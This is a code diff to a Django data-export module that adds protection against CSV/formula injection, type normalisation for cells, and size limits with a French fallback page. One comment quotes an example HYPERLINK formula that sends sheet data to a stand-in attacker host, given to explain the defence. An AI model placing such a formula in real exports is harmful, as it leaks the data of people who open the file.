@@ -8,19 +8,22 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
-import io
+import math
+import re
+import tempfile
 from collections.abc import Callable, Iterable
 from dataclasses import dataclass
 from decimal import Decimal
 
+from django.conf import settings
 from django.core.paginator import Paginator
-from django.http import HttpResponse, StreamingHttpResponse
+from django.http import FileResponse, HttpResponse, StreamingHttpResponse
+from django.urls import reverse
 from django.utils import timezone
 
 from pilote.lib.formats import decimal_comma
 
 EXPORT_FORMATS = {"csv", "xlsx", "pdf"}
-PDF_MAX_ROWS = 20_000  # a PDF is built in memory: beyond this, CSV or XLSX
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
 
@@ -64,89 +67,249 @@ class _Echo:
         return value
 
 
-def _csv_cell(value) -> str:
+# --- One normalisation for every exported cell ------------------------------------------------------------
+# A spreadsheet evaluates a text cell that starts with = + - @ (also after spaces), a tab or a carriage
+# return (OWASP « CSV injection »): a contact named =HYPERLINK("http://evil.example/?d="&A2) would send the
+# sheet's data away when opened. Every text cell of a spreadsheet export goes through `inert_text`, which
+# prefixes such a text with a single quote. Real numbers, dates and booleans are typed values, never
+# quoted: a negative amount stays a number.
+FORMULA_STARTS = ("=", "+", "-", "@")
+CONTROL_STARTS = ("\t", "\r")
+# Text that is only a number (« -12,50 », « -1 234 ») is what it shows: a spreadsheet reads a number.
+NUMBER_TEXT = re.compile(r"[+-]?\d{1,3}(?:[ \u00a0\u202f]\d{3})+(?:[.,]\d+)?|[+-]?\d+(?:[.,]\d+)?")
+# Characters an XML file (an XLSX) cannot hold; openpyxl refuses them with an exception.
+ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+XLSX_MAX_TEXT = 32_767  # characters in one cell
+XLSX_MAX_ROWS = 1_048_576  # rows in one sheet, header included
+
+
+def inert_text(text: str) -> str:
+    """`text` as a spreadsheet shows it and never evaluates it: quoted when it would start a formula."""
+    stripped = text.lstrip()
+    if text.startswith(CONTROL_STARTS) or (stripped.startswith(FORMULA_STARTS) and not NUMBER_TEXT.fullmatch(stripped)):
+        return "'" + text
+    return text
+
+
+def _as_text(value) -> str:
+    if isinstance(value, dict):
+        return " ; ".join(f"{key} : {_as_text(item)}" for key, item in value.items())
+    if isinstance(value, list | tuple | set | frozenset):
+        return ", ".join(_as_text(item) for item in value)
     if value is None:
         return ""
+    return ILLEGAL_CHARACTERS.sub("", str(value))
+
+
+def typed_cell(value):
+    """What a column gives, as one of the few kinds every format writes: None, a number (int, finite
+    Decimal or float), a date, a local naive datetime, or text (bool as oui/non; anything else — a dict,
+    a list, a lazy string, an enum — as its text, so no format meets a type it cannot write)."""
+    if value is None:
+        return None
     if isinstance(value, bool):
         return "oui" if value else "non"
+    if isinstance(value, int):
+        return value
+    if isinstance(value, Decimal):
+        return value if value.is_finite() else None
+    if isinstance(value, float):
+        return value if math.isfinite(value) else None
+    if isinstance(value, dt.datetime):
+        return (timezone.localtime(value) if timezone.is_aware(value) else value).replace(tzinfo=None)
+    if isinstance(value, dt.date):
+        return value
+    return _as_text(value)
+
+
+def spreadsheet_cell(value):
+    """`typed_cell`, with text made inert: the cell every spreadsheet export (CSV, XLSX, a future one,
+    the trial balance command) writes."""
+    value = typed_cell(value)
+    return inert_text(value) if isinstance(value, str) else value
+
+
+def csv_text(value) -> str:
+    """A spreadsheet cell as CSV text, in French forms: 1234,56 ; 24/11/2026 ; 24/11/2026 14:05."""
+    value = spreadsheet_cell(value)
+    if value is None:
+        return ""
     if isinstance(value, Decimal):
         return decimal_comma(value)
+    if isinstance(value, float):
+        return str(value).replace(".", ",")
     if isinstance(value, dt.datetime):
-        return timezone.localtime(value).strftime("%d/%m/%Y %H:%M")
+        return value.strftime("%d/%m/%Y %H:%M")
     if isinstance(value, dt.date):
         return value.strftime("%d/%m/%Y")
     return str(value)
 
 
 def _xlsx_cell(value):
-    if isinstance(value, dt.datetime):
-        return timezone.localtime(value).replace(tzinfo=None)
-    if isinstance(value, bool):
-        return "oui" if value else "non"
+    value = spreadsheet_cell(value)
+    if isinstance(value, str) and len(value) > XLSX_MAX_TEXT:
+        return value[: XLSX_MAX_TEXT - 1] + "…"
     return value
 
 
 def _pdf_cell(value) -> tuple[str, bool]:
     from pilote.lib.formats import format_number
 
+    value = typed_cell(value)  # a PDF evaluates nothing: its text is shown as typed
     if isinstance(value, Decimal):
         return format_number(value), True
-    if isinstance(value, int) and not isinstance(value, bool):
-        return str(value), True
-    return _csv_cell(value), False
+    if isinstance(value, int):
+        return str(value), True  # counts and years, never grouped
+    if isinstance(value, float):
+        return format_number(Decimal(str(value))), True
+    if isinstance(value, dt.datetime):
+        return value.strftime("%d/%m/%Y %H:%M"), False
+    if isinstance(value, dt.date):
+        return value.strftime("%d/%m/%Y"), False
+    return value or "", False
+
+
+# --- Size limits ----------------------------------------------------------------------------------------
+def pdf_max_rows() -> int:
+    """A PDF is laid out in memory by WeasyPrint (about 10 ms a row): beyond this many rows — some
+    forty pages — it would run past the server's timeout; the page offers the XLSX instead."""
+    return getattr(settings, "PILOTE_PDF_MAX_ROWS", 1_000)
+
+
+class ExportTooLarge(Exception):
+    """A list too long for the format asked: `ExportLimitMiddleware` answers with a French page that
+    offers the other formats."""
+
+    def __init__(self, fmt: str, limit: int, title: str):
+        super().__init__(f"{fmt} export beyond {limit} rows")
+        self.fmt, self.limit, self.title = fmt, limit, title
+
+
+def _format_url(request, current: str, fmt: str) -> str:
+    """The same export in another format: `?export=pdf` → `?export=xlsx`, or `/…/export/pdf/` → `/…/xlsx/`."""
+    query = request.GET.copy()
+    if query.get("export") == current:
+        query["export"] = fmt
+        return f"{request.path}?{query.urlencode()}"
+    match = request.resolver_match
+    kwargs = {key: fmt if value == current else value for key, value in match.kwargs.items()}
+    url = reverse(match.view_name, args=match.args, kwargs=kwargs)
+    return f"{url}?{query.urlencode()}" if query else url
+
+
+def _list_url(request) -> str:
+    """The list a `?export=` link was on (the same address without it), else none."""
+    if "export" not in request.GET:
+        return ""
+    query = request.GET.copy()
+    del query["export"]
+    return f"{request.path}?{query.urlencode()}" if query else request.path
+
+
+class ExportLimitMiddleware:
+    """Turns `ExportTooLarge`, raised by `export_response` in any exporting view, into a French page."""
+
+    def __init__(self, get_response):
+        self.get_response = get_response
+
+    def __call__(self, request):
+        return self.get_response(request)
+
+    def process_exception(self, request, exception):
+        if not isinstance(exception, ExportTooLarge):
+            return None
+        from django.shortcuts import render
+
+        others = [(fmt.upper(), _format_url(request, exception.fmt, fmt)) for fmt in ("xlsx", "csv")]
+        context = {
+            "exception": exception,
+            "others": [(label, url) for label, url in others if label.lower() != exception.fmt],
+            "back": _list_url(request),
+        }
+        return render(request, "core/export_too_large.html", context)
+
+
+# --- The export -----------------------------------------------------------------------------------------
+def _csv_response(rows: Iterable, columns: list[Column]) -> StreamingHttpResponse:
+    writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
+
+    def lines():
+        # Rows go out in batches: one socket write per row would dominate a large export.
+        batch = ["\ufeff" + writer.writerow([csv_text(c.label) for c in columns])]
+        for row in rows:
+            batch.append(writer.writerow([csv_text(c.value(row)) for c in columns]))
+            if len(batch) >= 500:
+                yield "".join(batch)
+                batch = []
+        yield "".join(batch)
+
+    return StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
+
+
+def _xlsx_response(rows: Iterable, columns: list[Column], basename: str, title: str) -> FileResponse:
+    """Written row by row (openpyxl's write-only mode keeps no cell objects) to a temporary file that is
+    streamed back and removed once sent: memory stays flat whatever the number of rows."""
+    from openpyxl import Workbook
+
+    workbook = Workbook(write_only=True)
+    sheet = workbook.create_sheet(_sheet_title(basename))
+    sheet.append([_xlsx_cell(c.label) for c in columns])
+    for count, row in enumerate(rows, start=2):
+        if count > XLSX_MAX_ROWS:
+            raise ExportTooLarge("xlsx", XLSX_MAX_ROWS - 1, title)
+        sheet.append([_xlsx_cell(c.value(row)) for c in columns])
+    # No name on disk: the file is gone when the response, which closes it once sent, is done with it.
+    handle = tempfile.TemporaryFile(suffix=".xlsx")  # noqa: SIM115 - its life is the response's
+    try:
+        workbook.save(handle)
+        handle.seek(0)
+    except BaseException:
+        handle.close()
+        raise
+    return FileResponse(handle, content_type=XLSX_TYPE)
+
+
+def _sheet_title(basename: str) -> str:
+    title = re.sub(r"[\\/*?:\[\]]", "-", basename)[:31]
+    return title or "Export"
+
+
+def _pdf_response(rows: Iterable, columns: list[Column], basename: str, title: str, subtitle: str):
+    from pilote.core.models import Structure
+    from pilote.core.pdf import render_pdf
+
+    limit = pdf_max_rows()
+    table = []
+    for row in rows:
+        if len(table) >= limit:
+            raise ExportTooLarge("pdf", limit, title or basename)
+        table.append([_pdf_cell(c.value(row)) for c in columns])
+    context = {
+        "title": title or basename,
+        "subtitle": subtitle,
+        "columns": [c.label for c in columns],
+        "rows": table,
+        "structure": Structure.objects.first(),
+    }
+    return HttpResponse(render_pdf("pdf_table.html", context), content_type="application/pdf")
 
 
 def export_response(
     rows: Iterable, columns: list[Column], basename: str, fmt: str, title: str = "", subtitle: str = ""
 ):
-    """CSV (';', UTF-8 with BOM, decimal comma — what French spreadsheets open) is streamed; XLSX is
-    written in openpyxl's write-only mode so memory does not hold cell objects; PDF is an A4 landscape
-    table with the structure's header and page numbers."""
+    """The one export path of every list. CSV (';', UTF-8 with BOM, decimal comma — what French
+    spreadsheets open) is streamed; XLSX is written in openpyxl's write-only mode to a temporary file
+    streamed back; both write every cell through `spreadsheet_cell` (typed values, inert text). PDF is an
+    A4 landscape table with the structure's header and page numbers, up to `pdf_max_rows()` rows: a
+    longer list raises `ExportTooLarge`, which the middleware turns into a page offering XLSX and CSV."""
     stamp = timezone.localdate().strftime("%Y%m%d")
     filename = f"{basename}-{stamp}.{fmt}"
     if fmt == "csv":
-        writer = csv.writer(_Echo(), delimiter=";", lineterminator="\r\n")
-
-        def lines():
-            # Rows go out in batches: one socket write per row would dominate a large export.
-            batch = ["\ufeff" + writer.writerow([c.label for c in columns])]
-            for row in rows:
-                batch.append(writer.writerow([_csv_cell(c.value(row)) for c in columns]))
-                if len(batch) >= 500:
-                    yield "".join(batch)
-                    batch = []
-            yield "".join(batch)
-
-        response = StreamingHttpResponse(lines(), content_type="text/csv; charset=utf-8")
+        response = _csv_response(rows, columns)
     elif fmt == "xlsx":
-        from openpyxl import Workbook
-
-        workbook = Workbook(write_only=True)
-        sheet = workbook.create_sheet(basename[:31])
-        sheet.append([c.label for c in columns])
-        for row in rows:
-            sheet.append([_xlsx_cell(c.value(row)) for c in columns])
-        buffer = io.BytesIO()
-        workbook.save(buffer)
-        response = HttpResponse(buffer.getvalue(), content_type=XLSX_TYPE)
+        response = _xlsx_response(rows, columns, basename, title or basename)
     elif fmt == "pdf":
-        from pilote.core.models import Structure
-        from pilote.core.pdf import render_pdf
-
-        table = []
-        for count, row in enumerate(rows):
-            if count >= PDF_MAX_ROWS:
-                break
-            table.append([_pdf_cell(c.value(row)) for c in columns])
-        context = {
-            "title": title or basename,
-            "subtitle": subtitle,
-            "columns": [c.label for c in columns],
-            "rows": table,
-            "truncated": len(table) >= PDF_MAX_ROWS,
-            "structure": Structure.objects.first(),
-        }
-        response = HttpResponse(render_pdf("pdf_table.html", context), content_type="application/pdf")
+        response = _pdf_response(rows, columns, basename, title, subtitle)
     else:
         raise ValueError(f"Unknown export format {fmt}")
     response["Content-Disposition"] = f'attachment; filename="{filename}"'
